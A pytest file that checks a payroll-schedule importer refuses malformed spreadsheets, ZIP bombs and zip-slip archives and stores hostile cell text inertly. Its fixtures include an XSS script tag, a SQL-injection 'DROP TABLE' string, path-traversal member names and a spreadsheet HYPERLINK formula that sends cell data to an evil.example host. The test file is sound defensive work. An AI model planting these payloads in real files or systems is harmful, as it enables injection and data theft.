"""The salary-table corpus (tests/bad_inputs/salary_table/): each file a union or county could
publish, or an attacker could make, read by the one reader the CLI and the "Add an agreement"
page share (etl.schedule_import.read). Every file ends in a clear error naming the file, row
and column, with nothing stored, or (accepted_*) in the right rows, stored verbatim.

The ZIP surface of the State Controller import is in tests/hardening/test_bad_inputs.py; here
only what is written to disk while one is read."""

from __future__ import annotations

import io
import tempfile
import zipfile

import pytest

from bargain_cli import main
from etl import defaults
from etl.errors import GccImportError
from etl.gcc.importer import prepare
from etl.schedule_import import ScheduleImportError, read
from etl.schedule_import.stored import ImportedFile
from exports.site.html import e as html_escape
from exports.tables import to_csv_bytes
from userdata import agreements, warehouse

from .conftest import CORPUS, snapshot

FOLDER = CORPUS / "salary_table"
FILE = None
OPTS = {"agency": "Example County", "effective": "2024-07-01", "period": "hourly"}
UNDATED = {"agency": "Example County", "period": "hourly"}  # files that date their own pay

# file -> [(sheet, row, column, a fragment of the message)], in the order reported
EXPECTED: dict[str, list[tuple[str | None, int | None, str | None, str]]] = {
    "decreasing_steps.csv": [
        (None, 4, "Step B", "E101 step B pays 21.50, less than step A 22.00 (row 4, column")
    ],
    "negative_pay.csv": [(None, 3, "Step A", "'-22.00' is negative")],
    "negative_steps.csv": [(None, FILE, None, "the steps '-1', '0', '1' are neither numbers")],
    "duplicate_code_different_pay.csv": [
        (None, 3, "Step A", "E100 step A on 2024-07-01 is given twice: row 2 (column 'Step A') "),
        (None, 3, "Step B", "and row 3 (21.00 and 26.25)"),
        (None, 3, "Step C", "and row 3 (22.05 and 27.55)"),
    ],
    "effective_1899.csv": [
        (None, 1, "Effective 7/1/1899", "'7/1/1899' (1899-07-01) is outside 1900-01-01 to")
    ],
    "effective_2200.csv": [
        (None, 1, "Effective 7/1/2200", "'7/1/2200' (2200-07-01) is outside 1900-01-01 to")
    ],
    "effective_feb_30.csv": [
        (None, 1, "Effective 2/30/2025", "but '2/30/2025' is not a real date (no such day)")
    ],
    # a column of dates, one per row ("Effective Date"): each bad cell named by row and column
    "effective_column_july_ish.csv": [
        (None, 3, "Effective Date", "'July-ish' is not a date (write YYYY-MM-DD, or M/D/YYYY)")
    ],
    "effective_column_feb_30.csv": [
        (None, 4, "Effective Date", "'02/30/2025' is not a real date (no such day)"),
        (None, 5, "Effective Date", "'02/30/2025' is not a real date (no such day)"),
    ],
    "effective_column_blank_first.csv": [
        (None, 2, "Effective Date", "the date is blank and no row above gives one")
    ],
    "row_dates_with_effective_given.csv": [
        (
            None,
            FILE,
            "Effective Date",
            "the rows state 2 effective dates in the column 'Effective Date' (2024-07-01: 2 "
            "rows; 2025-07-01: 2 rows), so one effective date given (2024-07-01) cannot date "
            "them: leave the effective date out",
        )
    ],
    "row_date_other_than_effective_given.csv": [
        (
            None,
            FILE,
            "Effective Date",
            "every row's 'Effective Date' cell (2 rows) says 2025-07-01, but the effective date "
            "given is 2024-07-01: leave the effective date out to use the rows' date, or map "
            "ignore=Effective Date",
        )
    ],
    "heading_feb_30.csv": [
        (None, 5, None, "the heading states the date pay took effect, but 'February 30, 2025'")
    ],
    "heading_fiscal_year_2200.csv": [
        (None, 1, None, "'FY 2200-01' (2200-07-01) is outside 1900-01-01 to 2100-12-31")
    ],
    "overlong_title.csv": [(None, 2, "Classification", "1,000 characters long, more than 200")],
    "overlong_title.xlsx": [
        ("Schedule", 2, "Classification", "1,000 characters long, more than 200")
    ],
    "formulas.xlsx": [
        ("Schedule", 3, "Step B", "cell D3 holds a formula (=C3*1.05); the file must hold values"),
        ("Schedule", 4, "Classification", 'cell B4 holds a formula (=HYPERLINK("http://evil'),
    ],
    "lone_surrogate_in_title.xlsx": [
        (None, FILE, None, "sheet 'Schedule' is damaged or incomplete (ParseError: reference to")
    ],
    "encrypted_workbook.xlsx": [(None, FILE, None, "this workbook is password-protected")],
    "legacy_xls_renamed.xlsx": [
        (None, FILE, None, "this is an Excel 97-2003 workbook (.xls), whatever its name says")
    ],
    "xlsx_bomb.xlsx": [(None, FILE, None, "the workbook unpacks to 210 MB, more than 200 MB")],
    "xlsx_bomb_lying_size.xlsx": [
        (None, FILE, None, "(BadZipFile: Bad CRC-32 for file 'xl/worksheets/sheet1.xml')")
    ],
    "cell_in_row_1048576.xlsx": [("Schedule", FILE, None, "the sheet has more than 500,000 rows")],
    "zip_named_csv.csv": [
        (None, FILE, None, "a ZIP archive, not an Excel workbook (it holds schedule.csv); unzip")
    ],
    "zip_named_xlsx.xlsx": [(None, FILE, None, "a ZIP archive, not an Excel workbook")],
    "nested_zip.zip": [(None, FILE, None, "not an Excel workbook (it holds schedule.zip)")],
}
HOSTILE = [
    "<script>alert('x')</script>",
    "**ACCOUNT** CLERK [link](http://evil.example/)",
    "LEGAL SECRETARY I",  # a line break in the cell, read as a space (cells.text)
]
# file -> (class code, class title) of every class, in order
ACCEPTED: dict[str, list[tuple[str, str]]] = {
    "accepted_hostile_titles.csv": [
        *zip(["E100", "E101", "E102"], HOSTILE, strict=True),
        ("E103", '=HYPERLINK("http://evil.example/?d="&A1,"Click")'),
        ("E104", "Robert'); DROP TABLE scenarios;--"),
    ],
    "accepted_hostile_titles.xlsx": list(zip(["E100", "E101", "E102"], HOSTILE, strict=True)),
    # one code, two titles: two classes, their pay never merged
    "accepted_code_with_two_titles.csv": [
        ("E100/ACCOUNT-CLERK-I", "ACCOUNT CLERK I"),
        ("E100/LEGAL-SECRETARY-I", "LEGAL SECRETARY I"),
    ],
    # the rows are read as stored, whatever size the sheet claims
    "accepted_dimension_says_1048576_rows.xlsx": [
        ("E100", "ACCOUNT CLERK I"),
        ("E101", "ACCOUNT CLERK II"),
    ],
    # the steps are numbered: listed top step first, they are still in order
    "accepted_steps_listed_top_down.csv": [("1001", "OFFICE ASSISTANT I")],
}


def _options(name: str) -> dict:
    return UNDATED if name.startswith(("effective_", "heading_")) else OPTS


def _files(name: str) -> list[ImportedFile]:
    return [ImportedFile("schedule", name, (FOLDER / name).read_bytes())]


@pytest.fixture()
def no_build(monkeypatch):
    """warehouse.store without the rebuild (seconds; the build is tested elsewhere)."""
    monkeypatch.setattr(warehouse, "build", lambda db=None, user_db=None: None)


def test_every_salary_table_file_is_listed():
    on_disk = {p.name for p in FOLDER.iterdir()}
    assert on_disk == set(EXPECTED) | set(ACCEPTED), on_disk ^ (set(EXPECTED) | set(ACCEPTED))
    # bombs stay small on disk; what they unpack to is the point
    assert max(p.stat().st_size for p in FOLDER.iterdir()) < 1024**2


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_a_bad_salary_table_is_refused_naming_each_place_and_nothing_is_stored(name, user_db):
    before = snapshot(user_db)
    with pytest.raises(ScheduleImportError) as info:
        warehouse.store(read(_files(name), _options(name)), user_db=user_db)
    err = info.value
    got = [(p.sheet, p.row, p.column, p.message) for p in err.problems]
    assert len(got) == len(EXPECTED[name]), got
    for (sheet, row, column, fragment), (g_sheet, g_row, g_column, message) in zip(
        EXPECTED[name], got, strict=True
    ):
        assert (g_sheet, g_row, g_column) == (sheet, row, column), got
        assert fragment in message, got
    text = str(err)
    assert text.startswith(f"{name}: ") and "Traceback" not in text
    assert all(fragment in text for *_, fragment in EXPECTED[name])
    assert snapshot(user_db) == before


@pytest.mark.parametrize("name", sorted(ACCEPTED))
def test_a_hostile_but_legitimate_table_is_stored_verbatim(name, user_db, no_build):
    got = read(_files(name), _options(name))
    assert [(c.class_code, c.class_title) for c in got.result.classes] == ACCEPTED[name]
    import_id, _, _ = warehouse.store(got, user_db=user_db)
    (item,) = agreements.load_all(user_db)
    assert item.import_id == import_id
    assert item.files[0].data == (FOLDER / name).read_bytes()  # the file as given
    again = read(list(item.files), {**item.options, "agency": item.agency})
    assert [(c.class_code, c.class_title) for c in again.result.classes] == ACCEPTED[name]
    titles = [c.class_title for c in again.result.classes]
    # shown inert: escaped in the site's HTML, formula text quoted in a CSV download
    for t in titles:
        assert "<" not in html_escape(t)
    if name == "accepted_hostile_titles.csv":
        import pandas as pd

        exported = to_csv_bytes(pd.DataFrame({"class_title": titles})).decode("utf-8-sig")
        assert "'=HYPERLINK(" in exported and "\n=HYPERLINK(" not in exported


# The agency typed with the import (the CLI's --agency, the page's field) -------------------------


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        (" sonoma  county ", "Sonoma"),
        ("SONOMA", "Sonoma"),
        ("County of Mendocino", "Mendocino"),
        ("contra\ncosta", "Contra Costa"),
        ("City of Sonoma", "City of Sonoma"),  # a city is never the county of its name
        ("<b>Neighbor</b> **County** [x](y)", "<b>Neighbor</b> **County** [x](y)"),
    ],
)
def test_an_agency_named_as_a_published_one_is_that_agency(typed, stored, user_db, no_build):
    got = read(_files("accepted_code_with_two_titles.csv"), {**OPTS, "agency": typed})
    assert got.options.agency == stored
    assert (typed.strip() != stored) == any("is the published agency" in n for n in got.notes)
    warehouse.store(got, user_db=user_db)
    (item,) = agreements.load_all(user_db)
    assert item.agency == stored and item.agreement_id.startswith("imported-")


@pytest.mark.parametrize(
    ("typed", "message"),
    [
        ("A" * 1000, "option 'agency': the text is 1,000 characters long, more than 100"),
        ("Sonoma \udc80", "option 'agency': the agency has an undecodable character (U+DC80)"),
        ("Napa\u202e", "option 'agency': the agency has a hidden text-direction control"),
    ],
)
def test_an_agency_that_cannot_be_a_name_is_one_problem(typed, message, user_db):
    before = snapshot(user_db)
    with pytest.raises(ScheduleImportError) as info:
        read(_files("accepted_code_with_two_titles.csv"), {**OPTS, "agency": typed})
    (problem,) = info.value.problems  # not also "give the agency"
    assert problem.message.startswith(message)
    assert snapshot(user_db) == before


def test_a_lone_surrogate_in_the_cli_agency_exits_2_and_stores_nothing(
    tmp_path, monkeypatch, capsys
):
    # what Python makes of an argument whose bytes are not UTF-8 (surrogateescape)
    db, user = tmp_path / "w.duckdb", tmp_path / "u.sqlite"
    monkeypatch.setenv("BARGAIN_DB", str(db))
    monkeypatch.setenv("BARGAIN_USER_DB", str(user))
    path = str(FOLDER / "accepted_code_with_two_titles.csv")
    argv = ["import-schedule", path, "--agency", "Sonoma\udcff", "--effective", "2024-07-01"]
    assert main([*argv, "--period", "hourly"]) == 2
    err = capsys.readouterr().err
    assert "undecodable character (U+DCFF); retype it" in err and "Traceback" not in err
    assert not db.exists() and (not user.exists() or agreements.listing(user).empty)


# Generated: too large to commit ------------------------------------------------------------------


@pytest.fixture(scope="session")
def full_height_sheet() -> bytes:
    """A schedule whose sheet has a value in every one of Excel's 1,048,576 rows (written as
    the sheet XML directly: openpyxl would take a minute), about 2 MB deflated."""
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active.title = "Schedule"
    buf = io.BytesIO()
    wb.save(buf)
    out = io.BytesIO()
    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                dst.writestr(info.filename, src.read(info))
                continue
            with dst.open("xl/worksheets/sheet1.xml", "w") as sheet:
                sheet.write(
                    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
                    b'main"><sheetData>'
                )
                for r in range(1, 1_048_577, 4096):
                    sheet.write(
                        b"".join(
                            b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (k, k)
                            for k in range(r, min(r + 4096, 1_048_577))
                        )
                    )
                sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def test_a_sheet_of_1048576_rows_is_refused(full_height_sheet, user_db, monkeypatch):
    """Refused at the first row over the bound, reading no further. The bound is lowered here
    so the test reads 1,001 rows, not 500,001 (benchmarks/bench_bombs.py reads the sheet at
    the real bound and reports its memory)."""
    assert len(full_height_sheet) < defaults.MAX_UPLOAD_BYTES  # it passes the upload limit
    monkeypatch.setattr(defaults, "MAX_XLSX_ROWS", 1000)
    before = snapshot(user_db)
    with pytest.raises(ScheduleImportError) as info:
        read([ImportedFile("schedule", "tall.xlsx", full_height_sheet)], OPTS)
    (problem,) = info.value.problems
    assert problem.message == "the sheet has more than 1,000 rows"
    assert (problem.sheet, problem.file) == ("Schedule", "tall.xlsx")
    assert snapshot(user_db) == before


# The State Controller's ZIP: nothing written where a member's name points ---------------------


@pytest.mark.parametrize(
    "member",
    ["../escaped.csv", "../../escaped.csv", "{tmp}/escaped.csv", "..\\escaped.csv"],
)
def test_a_zip_member_named_outside_the_archive_writes_nothing_there(member, tmp_path, monkeypatch):
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(work))  # where the reader's temp files go
    name = member.format(tmp=tmp_path)
    gcc = b'"Year","EmployerName","Position","MaxPositionSalary"\n"2016","Napa","Clerk","5"\n'
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(name, gcc)
    before = sorted(tmp_path.rglob("*"))
    with pytest.raises(GccImportError, match="a path outside the archive"):
        prepare(buf.getvalue(), "gcc.zip", agencies=None)
    after = sorted(tmp_path.rglob("*"))
    assert after == before  # no escaped.csv anywhere, the temporary folder removed
    assert not list(work.iterdir())
